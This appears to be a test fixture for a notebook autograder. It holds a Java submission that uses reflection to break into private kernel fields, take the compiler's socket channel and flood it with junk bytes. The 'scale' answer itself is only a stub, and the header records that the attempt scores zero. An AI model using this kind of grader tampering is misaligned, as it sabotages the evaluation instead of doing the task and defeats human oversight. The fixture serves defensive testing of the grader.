// attack: writes to the compiler, as the kernel's end of the wire, what no kernel sends
// assignment: 00-start-here
// question: scale
// notebook: compiler-1
// earns: 0
// reason: sent its compiler what no kernel sends
Object of(Object object, String name) throws Exception {
    var field = object.getClass().getDeclaredField(name);
    field.setAccessible(true);
    return field.get(object);
}

double[] scale(int[] pixels) {
    return new double[pixels.length];
}

Object cells = of(io.percolate.kernel.Percolate.getKernelInstance(), "cells");
Object wire = ((java.util.concurrent.Future<?>) of(of(cells, "compiler"), "wire")).get();
var channel = (java.nio.channels.SocketChannel) of(wire, "channel");
channel.write(java.nio.ByteBuffer.allocate(100_000));
Thread.sleep(2000);
